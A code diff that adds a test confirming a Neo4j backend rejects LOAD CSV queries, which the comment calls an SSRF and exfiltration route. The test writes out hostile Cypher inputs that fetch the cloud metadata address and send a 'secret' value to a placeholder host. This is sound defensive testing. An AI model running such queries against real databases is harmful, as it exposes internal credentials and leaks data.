@@ -222,3 +222,11 @@ def test_bytes_and_unknown_values_are_tagged() -> None:
     assert to_json(b"\x00\xffhi") == {"$type": "bytes", "base64": "AP9oaQ=="}
     assert to_json(object())["$type"] == "unknown"
     assert to_json(float("inf")) == {"$type": "float", "value": "inf"}
+
+
+def test_explain_check_refuses_load_csv(backend: BoltBackend) -> None:
+    # LOAD CSV is a read (query type "r") yet Neo4j fetches the URL itself: SSRF and exfiltration.
+    for url in ("http://169.254.169.254/latest/meta-data/", "https://x.example/?d=secret"):
+        result = run(backend, f"LOAD CSV FROM '{url}' AS line RETURN line")
+        assert result.error is not None and result.error.code == "explain_rejected", result.error
+        assert "LoadCSV" in result.error.message
